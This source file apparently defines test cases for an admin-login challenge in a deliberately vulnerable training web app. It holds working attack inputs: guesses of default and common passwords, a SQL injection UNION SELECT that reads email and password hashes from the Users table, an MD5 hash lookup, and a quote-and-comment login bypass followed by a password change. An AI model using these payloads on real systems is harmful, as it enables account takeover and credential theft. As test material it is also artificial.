import { hash } from 'node:crypto'
import { defineWays } from '#game/define.ts'
import { logInBy, searchOn } from '#game/visitor/requests.ts'

export default defineWays({
  otherWays: {
    'the right guess at once': async (visitor) => visitor.login(`admin@${await visitor.domain()}`, 'admin123'),
    'a list of popular passwords': async (visitor) => {
      const email = `admin@${await visitor.domain()}`
      for (const password of ['123456', 'password', 'qwerty', 'letmein', 'admin123'])
        await visitor.login(email, password)
    },
    'a hash that was looked up': async (visitor) => {
      const email = `admin@${await visitor.domain()}`
      const found = await searchOn(visitor, `UNION SELECT id,email,password,4,5,6,7,8,9 FROM Users WHERE id=1`)
      const { data } = found.json<{ data: { name: string; description: string }[] }>()
      const row = data.find(({ name }) => name === email)
      const word = ['admin', 'admin1', 'admin12', 'admin123'].find((guess) => hash('md5', guess) === row?.description)
      await visitor.login(email, word ?? '')
    },
  },
  mishaps: {
    'a guess that is close': [401, async (visitor) => visitor.login(`admin@${await visitor.domain()}`, 'Admin123')],
    'a guess with a blank behind it': [
      401,
      async (visitor) => visitor.login(`admin@${await visitor.domain()}`, 'admin123 '),
    ],
    'an injection that gets past the password': [
      200,
      async (visitor) => logInBy(visitor, `admin@${await visitor.domain()}'--`),
    ],
    'the right guess at the wrong address': [401, (visitor) => visitor.login('admin', 'admin123')],
    'the right guess after the password was changed': [
      401,
      async (visitor) => {
        const email = `admin@${await visitor.domain()}`
        await logInBy(visitor, `${email}'--`)
        await visitor.get('/rest/user/change-password?new=squeeze-me&repeat=squeeze-me')
        return visitor.login(email, 'admin123')
      },
    ],
  },
  companions: ['loginAdminChallenge'],
})
